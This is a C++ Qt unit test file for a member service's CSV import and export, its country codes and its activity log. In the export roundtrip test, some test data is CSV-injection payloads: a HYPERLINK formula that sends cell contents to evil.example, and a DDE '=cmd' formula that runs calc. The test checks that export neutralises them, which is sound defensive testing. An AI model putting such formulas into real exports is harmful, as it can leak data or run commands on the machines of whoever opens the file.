    SB_VERIFY_OK(noAccount);
    QCOMPARE(noAccount->rejected.size(), 1);
    QCOMPARE(noAccount->rejected.first().line, 1);
    QCOMPARE(noAccount->added, 0);
    // Only the two required columns is fine.
    auto minimal = members.importCsvText(s("account,name\nanna.berg,Anna\n"), true);
    SB_VERIFY_OK(minimal);
    QCOMPARE(minimal->valid, 1);
    QVERIFY(minimal->rejected.isEmpty());
    auto missingFile = members.importCsv(s("/nonexistent/dir/members.csv"), true);
    QVERIFY(!missingFile.ok());
    QCOMPARE(missingFile.error().kind, Error::Kind::Invalid);
    SB_COMPARE_SNAPSHOT(before, sbt::snapshot(e.db()));
}

void TestMemberService::importCancelledWritesNothing()
{
    QFETCH(QString, engine);
    SB_ENV(e, engine);
    const MemberService members(*e.ctx);
    QString text = s("account,name\n");
    for (int i = 0; i < 1200; ++i)
        text += QStringLiteral("member%1,Member %1\n").arg(i, 4, 10, QLatin1Char('0'));
    const sbt::Snapshot before = sbt::snapshot(e.db());
    qint64 lastDone = 0;
    auto r = members.importCsvText(text, false, [&](qint64 done, qint64 total) {
        lastDone = done;
        return total == 1200 && done < 1000;
    });
    QVERIFY(!r.ok());
    QCOMPARE(r.error().kind, Error::Kind::Refused);
    QCOMPARE(lastDone, qint64(1000));
    SB_COMPARE_SNAPSHOT(before, sbt::snapshot(e.db()));
}

void TestMemberService::exportImportRoundTrip()
{
    QFETCH(QString, engine);
    SB_ENV(e, engine);
    const MemberService members(*e.ctx);
    const QList<NewMember> tricky = {
        {s("anna.berg"), s("Berg, Anna"), s("anna@example.com"), s("R&D, Oslo")},
        {s("quote.smith"), s("Say \"Hi\" Smith"), QString(), s("\"Quoted\"")},
        // No line breaks or tabs: names refuse control characters (issue 12).
        {s("anne.marie"), s("Anne-Marie \"Annie\", Jr."), s("anne@example.fr"), s("Two, Lines")},
        {s("lukasz.wojcik"), s("Łukasz Wójcik"), s("łukasz@example.pl"), s("Dział sprzedaży"),
         s("PL")},
        {s("ingrid.odegard"), s("Ødegård, Ingrid \"Inga\""), QString(), QString(), s("NO")},
        {s("Mixed.Case-1"), s("=SUM(A1)"), QString(), s(";semi;colon;")},
        {s("zoe.noel"), s("Zoë Noël"), s("zoe@example.fr"), s("Ventes")},
        // Cells a spreadsheet would run as formulas: neutralised on export, read back as is.
        {s("formula.link"), s("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"), QString(),
         s("@sum")},
        {s("formula.plus"), s("+47"), QString(), s("-x")},
        {s("formula.minus"), s("-x"), QString(), s("-12.50")},
        {s("formula.quoted"), s("'=1+1"), QString(), s("'plain")},
        {s("formula.dde"), s("=cmd|' /C calc'!A0"), QString(), s("'@x")},
    };
    for (const NewMember& m : tricky)
        SB_VERIFY_OK(members.add(m));
    QTemporaryDir dir;
    const QString first = dir.filePath(s("members.csv"));
    auto written = members.exportCsv(first);
    SB_VERIFY_OK(written);
    QCOMPARE(*written, qint64(tricky.size()));
    const QByteArray firstBytes = readFile(first);
    QVERIFY(firstBytes.startsWith("account,name,email,department,country\r\n"));
    // No cell a spreadsheet opens starts with a formula character.
    const QStringList lines = QString::fromUtf8(firstBytes).split(s("\r\n"));
    for (const QString& line : lines) {
        for (const QString& cell : line.split(QLatin1Char(','))) {
            const QString unquoted = cell.startsWith(QLatin1Char('"')) ? cell.mid(1) : cell;
            QVERIFY2(unquoted.isEmpty() || !s("=+@\t").contains(unquoted.front()),
                     qPrintable(line));
            QVERIFY2(!unquoted.startsWith(s("-x")), qPrintable(line));
        }
    }
    QVERIFY(firstBytes.contains("\"'=HYPERLINK("));
    QVERIFY(firstBytes.contains(",'+47,"));

    SB_ENV(fresh, engine);
    const MemberService freshMembers(*fresh.ctx);
    auto imported = freshMembers.importCsv(first, false);
    SB_VERIFY_OK(imported);
    QVERIFY2(imported->rejected.isEmpty(), qPrintable(describe(*imported)));
    QCOMPARE(imported->added, int(tricky.size()));
    QCOMPARE(memberRows(*fresh.ctx), memberRows(*e.ctx));
    QCOMPARE(memberRows(*e.ctx).size(), tricky.size());
    const QString countries = s("SELECT account_name, country FROM members ORDER BY account_key");
    QCOMPARE(sbt::rows(fresh.db(), countries), sbt::rows(e.db(), countries));
    QCOMPARE(sbt::scalar(fresh.db(), s("SELECT country FROM members WHERE account_name = "
                                       "'ingrid.odegard'"))
                 .toString(),
             s("NO"));

    // And exported again, byte for byte the same file.
    const QString second = dir.filePath(s("again.csv"));
    SB_VERIFY_OK(freshMembers.exportCsv(second));
    QCOMPARE(readFile(second), firstBytes);
}

void TestMemberService::exportCancelledWritesNoFile()
{
    QFETCH(QString, engine);
    SB_ENV(e, engine);
    SB_ADD_FIXTURE(*e.ctx);
    QTemporaryDir dir;
    const QString path = dir.filePath(s("cancelled.csv"));
    auto r = MemberService(*e.ctx).exportCsv(path, [](qint64, qint64) { return false; });
    QVERIFY(!r.ok());
    QCOMPARE(r.error().kind, Error::Kind::Refused);
    QVERIFY(!QFile::exists(path));
    auto bad = MemberService(*e.ctx).exportCsv(s("/nonexistent/dir/x.csv"));
    QVERIFY(!bad.ok());
}

// A country is a region libphonenumber knows: the default region of the numbers a member
// dials (calls are rated with it).
void TestMemberService::countryRules()
{
    for (const char* ok : {"US", "NO", "GB", "PL", "FR", "NL", "CA", "no", " se "})
        QVERIFY2(MemberService::validateCountry(s(ok)).ok(), ok);
    for (const char* bad : {"", " ", "XX", "USA", "U", "1A", "ZZ"}) {
        auto r = MemberService::validateCountry(s(bad));
        QVERIFY2(!r.ok(), bad);
        QCOMPARE(r.error().kind, Error::Kind::Invalid);
        QVERIFY(!r.error().message.isEmpty());
    }
    QCOMPARE(MemberService::normalisedCountry(s(" no ")), s("NO"));
    // The regions offered (the window's country combo): sorted codes, no non-geographic "001".
    const QStringList regions = sb::PhoneNumbers::regions();
    QVERIFY(regions.size() > 200);
    QVERIFY(std::is_sorted(regions.cbegin(), regions.cend()));
    QVERIFY(regions.contains(s("US")) && regions.contains(s("NO")));
    QVERIFY(!regions.contains(s("001")));
    for (const QString& r : regions)
        QVERIFY2(r.size() == 2 && r == r.toUpper(), qPrintable(r));
    QVERIFY(MemberService::validateCountry(s("XX")).error().message.contains(s("XX")));
}

void TestMemberService::addWithCountry()
{
    QFETCH(QString, engine);
    SB_ENV(e, engine);
    const MemberService members(*e.ctx);
    auto us = members.add({s("anna.berg"), s("Anna Berg"), QString(), QString()});
    SB_VERIFY_OK(us);
    QCOMPARE(us->country, s("US"));
    auto no = members.add({s("ola.nordmann"), s("Ola"), QString(), QString(), s(" no")});
    SB_VERIFY_OK(no);
    QCOMPARE(no->country, s("NO"));
    auto found = members.find(s("ola.nordmann"));
    SB_VERIFY_OK(found);
    QCOMPARE(found->country, s("NO"));
    QCOMPARE(members.find(s("anna.berg"))->country, s("US"));

    const sbt::Snapshot before = sbt::snapshot(e.db());
    for (const char* bad : {"XX", "", "Norway"}) {
        auto r = members.add({s("kari.nordmann"), s("Kari"), QString(), QString(), s(bad)});
        QVERIFY2(!r.ok(), bad);
        QCOMPARE(r.error().kind, Error::Kind::Invalid);
    }
    SB_COMPARE_SNAPSHOT(before, sbt::snapshot(e.db()));
}

void TestMemberService::setCountry()
{
    QFETCH(QString, engine);
    SB_ENV(e, engine);
    const MemberService members(*e.ctx);
    SB_VERIFY_OK(members.add({s("ola.nordmann"), s("Ola"), QString(), QString()}));
    {
        const sbt::Snapshot before = sbt::snapshot(e.db());
        auto bad = members.setCountry(s("ola.nordmann"), s("QQ"));
        QVERIFY(!bad.ok());
        QCOMPARE(bad.error().kind, Error::Kind::Invalid);
        auto same = members.setCountry(s("Ola.Nordmann"), s("us"));
        QVERIFY(!same.ok());
        QCOMPARE(same.error().kind, Error::Kind::Refused);
        QVERIFY2(same.error().message.contains(s("already US")), qPrintable(same.error().message));
        auto nobody = members.setCountry(s("nobody.here"), s("NO"));
        QVERIFY(!nobody.ok());
        QCOMPARE(nobody.error().kind, Error::Kind::NotFound);
        SB_COMPARE_SNAPSHOT(before, sbt::snapshot(e.db()));
    }
    auto changed = members.setCountry(s("OLA.nordmann"), s("no"));
    SB_VERIFY_OK(changed);
    QCOMPARE(changed->country, s("NO"));
    QCOMPARE(changed->account, s("ola.nordmann"));
    QCOMPARE(members.find(s("ola.nordmann"))->country, s("NO"));
    auto log = sb::ActivityLog(*e.ctx).page(1);
    SB_VERIFY_OK(log);
    QCOMPARE(log->first().kind, sb::ActivityKind::MemberCountryChanged);
    QCOMPARE(sb::ActivityLog::describe(log->first()),
             s("Changed the country of ola.nordmann from US to NO"));
}

// The country column is optional: files written before it import with US; a bad code is
// rejected on its line and nothing is imported.
void TestMemberService::importCountryColumn()
{
    QFETCH(QString, engine);
    SB_ENV(e, engine);
    const MemberService members(*e.ctx);
    auto old = members.importCsvText(s("account,name,email,department\n"
                                       "anna.berg,Anna Berg,,Sales\n"),
                                     false);
    SB_VERIFY_OK(old);
    QCOMPARE(old->added, 1);
    QCOMPARE(members.find(s("anna.berg"))->country, s("US"));

    const sbt::Snapshot before = sbt::snapshot(e.db());
    auto bad = members.importCsvText(s("account,name,email,department,country\n"
                                       "ola.nordmann,Ola,,,NO\n"
                                       "kari.nordmann,Kari,,,Norway\n"),
                                     false);
    SB_VERIFY_OK(bad);
    QCOMPARE(bad->added, 0);
    QCOMPARE(bad->rejected.size(), 1);
    QCOMPARE(bad->rejected.first().line, 3);
    QVERIFY2(bad->rejected.first().reason.contains(s("Norway")),
             qPrintable(bad->rejected.first().reason));
    SB_COMPARE_SNAPSHOT(before, sbt::snapshot(e.db()));

    auto good = members.importCsvText(s("country,account,name\n"
                                        "no,ola.nordmann,Ola\n"
                                        ",kari.nordmann,Kari\n"
                                        "PL,lukasz.wojcik,Łukasz\n"),
                                      false);
    SB_VERIFY_OK(good);
    QCOMPARE(good->added, 3);
    QCOMPARE(sbt::rows(e.db(), s("SELECT account_name, country FROM members ORDER BY account_key")),
             (QStringList{s("anna.berg|US"), s("kari.nordmann|US"), s("lukasz.wojcik|PL"),
                          s("ola.nordmann|NO")}));
}

QTEST_GUILESS_MAIN(TestMemberService)
#include "tst_memberservice.moc"
